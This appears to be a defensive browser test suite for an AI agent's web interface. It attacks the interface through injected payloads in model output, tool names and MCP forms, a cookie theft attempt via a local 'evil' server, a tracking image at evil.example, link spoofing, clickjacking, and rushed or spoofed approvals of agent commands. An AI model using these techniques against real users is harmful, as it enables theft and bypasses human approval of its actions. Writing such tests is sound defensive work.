/** Attacks: the page in a browser. */
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before } from "node:test";
import { eventually } from "@quire/testkit";
import { attack } from "@quire/testkit/attack";
import type { Page } from "playwright-core";
import { hiding, payload } from "./support/hostile-server.ts";
import { type HostileStage, openHostileStage, type Tab } from "./support/hostile-stage.ts";

const approval = "item/commandExecution/requestApproval";
let stage: HostileStage;
let server: HostileStage["server"];
let page: Page;
let naive: Page;
before(async () => {
  stage = await openHostileStage();
  ({
    server,
    guarded: { page },
    naive: { page: naive },
  } = stage);
});
after(() => stage.close());

/** A server on this machine, for as long as an attack takes. */
function serve(fetch: (request: Request) => Response) {
  const server = Bun.serve({ hostname: "0.0.0.0", port: 0, fetch });
  return { port: server.port, [Symbol.dispose]: () => void server.stop(true) };
}

/** All that a person reads or hears of a page. */
const texts = (on: Page): Promise<string[]> =>
  on.evaluate(() => {
    const found: string[] = [document.title];
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) found.push(walk.currentNode.nodeValue ?? "");
    for (const element of document.querySelectorAll("*"))
      for (const name of ["title", "alt", "aria-label", "placeholder", "label"])
        found.push(element.getAttribute(name) ?? "");
    return found;
  });

/** Whether a text from somewhere ran, loaded or hid something. It must be there to be seen. */
async function gotThrough({ page: on, loaded }: Tab, where: string): Promise<boolean> {
  const isThere = (text: string) => text.includes(where);
  await eventually(async () => (await texts(on)).some(isThere), { what: `${where} on the page`, timeoutMs: 20_000 });
  const hits = await on.evaluate(() => (window as unknown as { hits?: string[] }).hits ?? []);
  return hits.includes(where) || loaded.some(isThere) || (await texts(on)).some((text) => hiding.test(text));
}

/** The places are looked at one by one on a page that shows them as HTML, as a page without care would. */
async function shownAsHtml(where: string): Promise<boolean> {
  await naive.evaluate((html) => {
    document.body.innerHTML = html;
  }, payload(where));
  await eventually(async () => stage.naive.loaded.some((url) => url.includes(where)), { what: "the picture" });
  return gotThrough(stage.naive, where);
}

const places: readonly { readonly name: string; readonly where: string }[] = [
  { name: "runs, loads or hides something by a thread's name", where: "name" },
  { name: "runs, loads or hides something by a folder's name", where: "folder" },
  { name: "runs, loads or hides something by a model's name", where: "model" },
  { name: "runs, loads or hides something by a user's message", where: "message" },
  { name: "runs, loads or hides something by markdown", where: "markdown" },
  { name: "runs, loads or hides something by a block of code", where: "code" },
  { name: "runs, loads or hides something by a model's thoughts", where: "reasoning" },
  { name: "runs, loads or hides something by a command", where: "command" },
  { name: "runs, loads or hides something by a command's output", where: "output" },
  { name: "runs, loads or hides something by a file's name", where: "path" },
  { name: "runs, loads or hides something by a diff", where: "diff" },
  { name: "runs, loads or hides something by the name of an MCP server", where: "server" },
  { name: "runs, loads or hides something by the name of a tool", where: "tool" },
  { name: "runs, loads or hides something by a tool's argument", where: "argument" },
  { name: "runs, loads or hides something by a tool's failure", where: "failure" },
  { name: "runs, loads or hides something by a search", where: "query" },
  { name: "runs, loads or hides something by a result of a search", where: "result" },
  { name: "runs, loads or hides something by a plan", where: "plan" },
  { name: "runs, loads or hides something by an item of no known kind", where: "data" },
  { name: "runs, loads or hides something by an error", where: "error" },
];
for (const { name, where } of places)
  attack(name, (guarded) => (guarded ? gotThrough(stage.guarded, where) : shownAsHtml(where)));

attack("runs, loads or hides something in the file of an exported thread", async (guarded) => {
  const loadedBefore = stage.naive.loaded.length;
  let file = `<!doctype html><p>${payload("exported")}</p>`;
  if (guarded) {
    const downloading = page.waitForEvent("download");
    await page.getByRole("button", { name: "Thread actions" }).click();
    await page.getByRole("menuitem", { name: "Export as HTML" }).click();
    file = await readFile(await (await downloading).path(), "utf8");
    for (const where of ["name", "message", "markdown", "command", "output", "path", "diff", "plan", "error"])
      assert.ok(file.includes(where), `the export lacks ${where}`);
  }
  await naive.goto("about:blank");
  await naive.setContent(file);
  const hits = await naive.evaluate(() => (window as unknown as { hits?: string[] }).hits ?? []);
  const isHidden = (await texts(naive)).some((text) => hiding.test(text));
  return hits.length > 0 || stage.naive.loaded.length > loadedBefore || isHidden;
});

attack("learns the page's cookie by a preview that leads to a server at the page's own host", async (guarded) => {
  const cookies: string[] = [];
  using evil = serve(({ headers }) => {
    cookies.push(headers.get("cookie") ?? "");
    const port = evil.port;
    // At its own host it first leads to the page's; there, what it asks for counts as of the page's site.
    const there = `if (location.hostname === "localhost") location = "http://127.0.0.1:${port}/";
      else fetch("/again").then(() => fetch("/done"));`;
    return new Response(`<script>${there}</script>`, { headers: { "content-type": "text/html" } });
  });
  using careless = serve(
    () =>
      new Response("<p>A page", {
        headers: { "set-cookie": "quire=secret; HttpOnly; SameSite=Strict", "content-type": "text/html" },
      }),
  );
  const on = guarded ? page : naive;
  if (!guarded) await naive.goto(`http://127.0.0.1:${careless.port}/`);
  await on.evaluate((address) => {
    const frame = Object.assign(document.createElement("iframe"), { src: address });
    frame.setAttribute("sandbox", "allow-scripts allow-same-origin allow-forms allow-popups");
    document.body.append(frame);
    document.addEventListener("securitypolicyviolation", () => document.body.setAttribute("data-held", ""));
  }, `http://localhost:${evil.port}/`);
  const isHeld = () => on.locator("body[data-held]").count();
  await eventually(async () => cookies.length >= 4 || (await isHeld()) > 0, { what: "the end of the way" });
  await on.evaluate(() => document.querySelector("body > iframe")?.remove());
  return cookies.some((cookie) => cookie !== "");
});

attack("tells a stranger that a thread is read, by a picture in it", async (guarded) => {
  if (guarded) return stage.guarded.loaded.some((url) => url.includes("remote.png"));
  await naive.setContent('<img src="https://evil.example/remote.png">');
  await eventually(() => stage.naive.loaded.some((url) => url.includes("remote.png")), { what: "the picture" });
  return true;
});
attack("shows another site on a link than it leads to", async (guarded) => {
  if (!guarded) await naive.setContent('<a href="https://evil.example/linked">https://good.example/</a>');
  const link = (guarded ? page : naive).locator('a[href="https://evil.example/linked"]').first();
  return !(await link.textContent())?.includes("evil.example");
});

/** Shows questions to the page, and takes them back at the end. */
async function asking<T>(
  questions: readonly (readonly [method: string, params: object])[],
  look: () => Promise<T>,
): Promise<T> {
  server.answered.length = 0;
  for (const [method, params] of questions) server.ask(method, params);
  await page.locator(".approvals-bar").waitFor();
  try {
    return await look();
  } finally {
    server.withdraw();
    await page.locator(".approvals-bar").waitFor({ state: "detached" });
  }
}

const forms: readonly { readonly name: string; readonly where: string; readonly params: object }[] = [
  {
    name: "runs, loads or hides something by the label of a form",
    where: "label",
    params: { requestedSchema: { type: "object", properties: { a: { type: "string", title: payload("label") } } } },
  },
  {
    name: "runs, loads or hides something by a choice of a form",
    where: "choice",
    params: {
      requestedSchema: {
        type: "object",
        properties: { a: { type: "string", enum: ["x"], enumNames: [payload("choice")] } },
      },
    },
  },
  {
    name: "runs, loads or hides something by the hint of a form",
    where: "hint",
    params: {
      requestedSchema: {
        type: "object",
        properties: { [payload("field")]: { type: "boolean", description: payload("hint") } },
      },
    },
  },
  {
    name: "runs, loads or hides something by the question of an MCP server",
    where: "question",
    params: { message: payload("question") },
  },
];
for (const { name, where, params } of forms)
  attack(name, (guarded) => {
    if (!guarded) return shownAsHtml(where);
    const form = {
      mode: "form",
      serverName: payload("origin"),
      message: "x",
      requestedSchema: { type: "object", properties: {} },
    };
    return asking([["mcpServer/elicitation/request", { ...form, ...params }]], () => gotThrough(stage.guarded, where));
  });
attack("runs, loads or hides something by the reason of an approval", (guarded) => {
  if (!guarded) return shownAsHtml("reason");
  return asking([[approval, { command: payload("asked"), reason: payload("reason") }]], () =>
    gotThrough(stage.guarded, "reason"),
  );
});
attack("passes a model's words off as words of the page", async (guarded) => {
  const reason = "Approved by your administrator.";
  if (!guarded) {
    await naive.setContent(`<section><h2>Run this command?</h2><p>${reason}</p></section>`);
    return (await naive.getByText(reason).locator("xpath=ancestor::figure").count()) === 0;
  }
  return asking([[approval, { command: "ls", reason }]], async () => {
    const quote = page.locator(".approvals-bar figure", { hasText: reason });
    return (await quote.count()) === 0 || !(await quote.textContent())?.startsWith("The agent's reason");
  });
});
attack("leaves the end of a long line out of an approval without a word", async (guarded) => {
  const line = `${"x".repeat(30_000)}END`;
  if (!guarded) {
    await naive.setContent(`<pre>${line.slice(0, 20_000)}…</pre>`);
    return !/END|10,003/.test((await naive.locator("pre").textContent()) ?? "");
  }
  return asking(
    [[approval, { command: line }]],
    async () => !/END|10,003/.test((await page.locator(".approvals-bar").textContent()) ?? ""),
  );
});

/** A page that takes an answer as soon as a question is there. */
const unguarded = `<title>0</title><button onclick="next()">Approve</button><script>
  var next = () => { document.title = String(Number(document.title) + 1); };
  document.onkeydown = ({ key }) => key === "y" && next();
</script>`;

/** What a hand does that is already on its way when a question appears: sooner than anybody could read it. */
type Reflex = "click" | "key" | "held key";
const act = ([reflex, text]: readonly [Reflex, string]): void => {
  const go = (): void => {
    const button = [...document.querySelectorAll("button")].find(({ textContent }) =>
      textContent?.startsWith("Approve"),
    );
    const key = { key: "y", bubbles: true, repeat: reflex === "held key" };
    if (reflex === "click") button?.click();
    else document.body.dispatchEvent(new KeyboardEvent("keydown", key));
    document.documentElement.setAttribute("data-acted", "");
  };
  const isThere = (): boolean => document.querySelector(".approvals-bar")?.textContent?.includes(text) ?? text === "";
  document.documentElement.removeAttribute("data-acted");
  if (isThere()) go();
  new MutationObserver((_, observer) => {
    if (!isThere()) return;
    observer.disconnect();
    setTimeout(go, 50);
  }).observe(document.body, { childList: true, subtree: true, characterData: true });
};

const reflexes: readonly { readonly name: string; readonly reflex: Reflex }[] = [
  { name: "gets a question approved by a click that was on its way when it appeared", reflex: "click" },
  { name: "gets a question approved by a key that was on its way when it appeared", reflex: "key" },
  { name: "gets a question approved by a key that is held down", reflex: "held key" },
];
for (const { name, reflex } of reflexes)
  attack(name, async (guarded) => {
    if (!guarded) {
      await naive.setContent(unguarded);
      await naive.evaluate(act, [reflex, ""] as const);
      return (await naive.title()) === "1";
    }
    await page.evaluate(act, [reflex, "surprise"] as const);
    return asking([[approval, { command: "surprise" }]], async () => {
      await page.locator("[data-acted]").waitFor({ state: "attached" });
      // Sent behind what the reflex may have sent.
      await page
        .getByRole("button", { name: "Decline", exact: true })
        .click({ timeout: 5000 })
        .catch(() => undefined);
      await eventually(() => server.answered.length > 0, { what: "an answer" });
      return JSON.stringify(server.answered[0]).includes("accept");
    });
  });
attack("gets a question approved by the second half of a double click on the one before", async (guarded) => {
  if (!guarded) {
    await naive.setContent(unguarded);
    await naive.getByRole("button").dblclick();
    return (await naive.title()) === "2";
  }
  await page.evaluate(act, ["click", "second"] as const);
  const questions = ["first", "second"].map((command) => [approval, { command }] as const);
  return asking(questions, async () => {
    const approve = page.getByRole("button", { name: "Approve", exact: true });
    await approve.click();
    await page.locator("[data-acted]").waitFor({ state: "attached" });
    await page
      .getByRole("button", { name: "Decline", exact: true })
      .click({ timeout: 5000 })
      .catch(() => undefined);
    await eventually(() => server.answered.length > 1, { what: "the second answer" });
    return JSON.stringify(server.answered[1]).includes("accept");
  });
});

attack("frames the page to catch clicks", async (guarded) => {
  const open = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: () => new Response("<title>open</title>", { headers: { "Content-Type": "text/html" } }),
  });
  await naive.goto(open.url.href);
  await naive.setContent(`<iframe src="${guarded ? stage.origin : open.url.href}"></iframe>`);
  const frame = await eventually(() => naive.frames()[1], { what: "the frame" });
  await frame.waitForLoadState().catch(() => undefined);
  await eventually(() => frame.url() !== "" && frame.url() !== "about:blank", { what: "the frame's page" });
  const isThere = frame.url().startsWith("http");
  await open.stop(true);
  return isThere;
});
